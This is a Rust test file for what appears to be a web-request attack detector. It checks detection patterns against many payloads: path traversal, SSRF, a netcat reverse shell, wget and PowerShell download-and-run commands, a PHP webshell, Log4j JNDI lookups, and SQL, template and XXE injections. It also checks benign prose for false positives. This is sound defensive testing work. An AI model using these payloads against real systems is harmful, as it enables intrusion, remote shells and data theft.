#![allow(clippy::unwrap_used, clippy::expect_used)]
use super::*;

#[test]
fn all_patterns_compile() {
    assert!(patterns_ok());
}

#[test]
fn traversal_and_files() {
    for v in [
        "../../etc/passwd",
        "..\\..\\windows\\win.ini",
        "....//....//etc/shadow",
        "/proc/self/environ",
        "c:\\windows\\system32\\drivers\\etc\\hosts",
        "..%bg%qf..%bg%qfetc%bg%qfpasswd",
        "0x2e0x2e0x2fetc0x2fpasswd",
        "file:///etc/hosts",
    ] {
        assert!(lfi(v.as_bytes()), "missed {v:?}");
    }
    for v in [
        "let me know about the laundry..",
        "1..10",
        "etc.",
        "db.php",
        "page/2/",
    ] {
        assert!(!lfi(v.as_bytes()), "false positive {v:?}");
    }
}

#[test]
fn remote_inclusion_and_ssrf() {
    assert!(rfi(b"http://10.0.0.1/shell.txt?"));
    assert!(rfi(
        b"php://filter/convert.base64-encode/resource=index.php"
    ));
    assert!(rfi(b"gopher://127.0.0.1:6379/_flushall"));
    assert!(!rfi(b"https://www.example.com/page"));
    assert!(ec2_metadata(b"http://169.254.169.254/latest/meta-data/"));
    assert!(ec2_metadata(b"http://[::ffff:a9fe:a9fe]/"));
    assert!(ssrf_local(b"http://localhost:8080/admin"));
    assert!(!ssrf_local(b"http://example.com/"));
}

#[test]
fn unix_commands() {
    for v in [
        ";cat /etc/passwd",
        "| id",
        "$(whoami)",
        "`uname -a`",
        "a && wget http://x.y/z.sh",
        "cat${IFS}/etc/passwd",
        "/???/c?t /etc/shadow",
        "() { :; }; /bin/bash -c id",
        "; c\\a't' /etc$u/passwd",
        "{cat,/etc/passwd}",
        "nc -e /bin/sh 10.0.0.1 4444",
    ] {
        assert!(
            unix_shell(v.to_ascii_lowercase().as_bytes()),
            "missed {v:?}"
        );
    }
    for v in [
        "echo in the mirror",
        "ls 300 lexus",
        "time warner",
        "heroine; more than that",
        "head of sales",
        "cha$9i74r0",
    ] {
        assert!(!unix_shell(v.as_bytes()), "false positive {v:?}");
    }
}

#[test]
fn windows_commands() {
    for v in [
        "& dir c:\\",
        "| net user",
        "cmd.exe /c whoami",
        "%comspec% /c calc",
        "for /f %i in (x) do echo %i",
    ] {
        assert!(windows_shell(v.as_bytes()), "missed {v:?}");
    }
    for v in ["do; copy should reach us", "net income", "type of day"] {
        assert!(!windows_shell(v.as_bytes()), "false positive {v:?}");
    }
    assert!(powershell(
        b"powershell -nop -w hidden -enc aqbfafgakaboaguadwatag8aygbqaguaywb0aca"
    ));
    assert!(powershell(
        b"iex (new-object net.webclient).downloadstring('http://x')"
    ));
    assert!(!powershell(b"the power shell of a turtle"));
}

#[test]
fn php_java_log4j() {
    assert!(php(b"<?php system($_get['c']); ?>"));
    assert!(php(b"o:8:\"stdclass\":0:{}"));
    assert!(php(b"fsockopen(\"x\",80)"));
    assert!(!php(b"the system is down"));
    assert!(java(b"java.lang.runtime"));
    assert!(java(b"ro0abxnyabdqyxzhlnv0aww"));
    assert!(java(
        b"%{(#_memberaccess=@ognl.ognlcontext@default_member_access)}"
    ));
    assert!(!java(b"I like java and coffee"));
    assert!(log4j(b"${jndi:ldap://x/a}"));
    assert!(log4j(b"${${lower:j}${::-n}di:rmi://x/a}"));
    assert!(log4j(b"$\\{jndi:ldap://x\\}"));
    assert!(!log4j(b"${price} dollars"));
}

#[test]
fn sqli_extended_and_others() {
    assert!(sqli_extended(b"1 union/**/select 1,2"));
    assert!(sqli_extended(b"select @@version"));
    assert!(sqli_extended(b"user[$ne]=x"));
    assert!(!sqli_extended(b"please select an option from the list"));
    assert!(ssti(b"{{7*7}}"));
    assert!(ssti(b"{{config.__class__.__init__.__globals__}}"));
    assert!(!ssti(b"{ \"a\": 1 }"));
    assert!(misc_injection(
        b"<!doctype foo [<!entity xxe system \"file:///etc/passwd\">]>"
    ));
    assert!(misc_injection(b"*)(uid=*))(|(uid=*"));
    assert!(misc_injection(b"x\r\nbcc: victim@example.com"));
    assert!(!misc_injection(b"(see page 3)"));
}

#[test]
fn prose_is_not_code() {
    for v in [
        "please check the file (attached) and the header (top)",
        "select items from the menu where you like",
        "in case when you arrive then call me",
        "my name (@twitter) is here",
        "@john.doe",
        "we'll copy (and paste) it; more than that, see /home/page?x=1",
        "hello {{ name }} and welcome",
        "if (2) apples then",
    ] {
        assert!(!php(v.as_bytes()), "php {v:?}");
        assert!(!sqli_extended(v.as_bytes()), "sqli {v:?}");
        assert!(!misc_injection(v.as_bytes()), "misc {v:?}");
        assert!(!ssti(v.as_bytes()), "ssti {v:?}");
        assert!(!unix_shell(v.as_bytes()), "unix {v:?}");
        assert!(!windows_shell(v.as_bytes()), "windows {v:?}");
    }
    assert!(php(b"system('id')"));
    assert!(php(b"x; exec($_get['c'])"));
    assert!(sqli_extended(b"1 and if(1=1,sleep(5),0)"));
    assert!(sqli_extended(
        b"x' union select name, pass from users where 1=1"
    ));
}

#[test]
fn paths_and_agents() {
    assert!(restricted_extension(b"/backup/site.sql"));
    assert!(restricted_extension(b"/index.php.bak"));
    assert!(!restricted_extension(b"/index.php"));
    assert!(exploitable_path(b"/web-inf/web.xml"));
    assert!(exploitable_path(b"/.git/config"));
    assert!(!exploitable_path(b"/products/list"));
    assert!(admin_path(b"/wp-admin/"));
    assert!(!admin_path(b"/administrative-law"));
    assert!(bad_bot(b"sqlmap/1.5"));
    assert!(!bad_bot(b"Mozilla/5.0 (X11; Linux x86_64)"));
}
